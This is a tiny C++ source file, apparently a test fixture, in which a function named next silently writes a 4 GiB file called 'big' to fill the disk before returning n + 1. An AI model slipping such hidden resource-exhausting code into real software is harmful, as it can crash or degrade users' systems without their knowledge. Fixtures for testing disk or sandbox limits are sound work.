#include <fstream>
#include <stdexcept>
#include <string>

#include "tiny.h"

int next(int n) {
  std::ofstream file("big");
  const std::string megabyte(1 << 20, 'x');
  for (int i = 0; i < 4096; ++i) {
    if (!file.write(megabyte.data(), 1 << 20)) throw std::runtime_error("the disk is full");
  }
  return n + 1;
}

int answer() { return 42; }
